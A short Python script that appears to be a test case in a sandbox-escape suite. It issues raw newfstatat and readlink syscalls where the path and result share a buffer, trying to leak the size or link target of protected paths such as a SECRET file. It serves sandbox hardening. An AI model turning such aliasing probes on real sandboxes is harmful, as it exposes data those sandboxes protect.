# SPDX-License-Identifier: Apache-2.0
# attack: path and result share a buffer; the result is the next path
# class: emulate
# wins: leak
from kit import *

tried()
b = ctypes.create_string_buffer(8192)
for i in range(64):
    for p in (GOOD, SECRET, BOX + '/link', OUT + '/link', OUT + '/sized.bin'):
        ctypes.memset(b, 0, 8192)
        ctypes.memmove(address(b) + i, os.fsencode(p), len(p))
        at = ctypes.c_void_p(address(b) + i)
        if sc('newfstatat', AT_FDCWD, at, b, 0) == 0 and p.endswith('sized.bin'):
            say('SIZE=%d' % struct.unpack_from('<q', b, 48)[0])
        ctypes.memmove(address(b) + i, os.fsencode(p), len(p))
        n = sc('readlink', at, at, 255)
        if n > 0:
            say(ctypes.string_at(address(b) + i, n).decode('latin-1'))
